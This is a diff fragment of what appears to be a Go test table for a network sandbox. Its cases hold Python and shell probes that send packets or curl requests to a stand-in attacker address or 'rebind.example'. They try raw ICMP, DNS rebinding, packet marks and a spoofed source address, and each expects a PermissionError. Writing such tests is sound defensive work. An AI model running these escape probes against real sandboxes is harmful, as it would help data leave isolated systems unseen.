@@ -147,7 +147,6 @@ s = socket.socket(2, 2, 1); p = b"\x08\0\0\0\0\0\0\1" + T; s.sendto(p, ("`+evilA
 			{what: "an allowed name that is rebound", script: "for i in 1 2 3; do " + curl + "http://rebind.example/$1; done", line: because("address")},
 		},
 		"B19": metadata(),
-		"B24": nil,
 		"B25": {
 			{what: "a mark of packets", script: py(socketOf, `s = socket.socket(2, 2); s.setsockopt(1, 36, 1); s.sendto(T, ("`+evilAddress+`", 443))`), kernel: "PermissionError"},
 			{what: "a source address of another's", script: py(socketOf, `s = socket.socket(2, 2); s.setsockopt(0, 19, 1); s.bind(("10.9.9.9", 0)); s.sendto(T, ("`+evilAddress+`", 443))`), kernel: "PermissionError"},
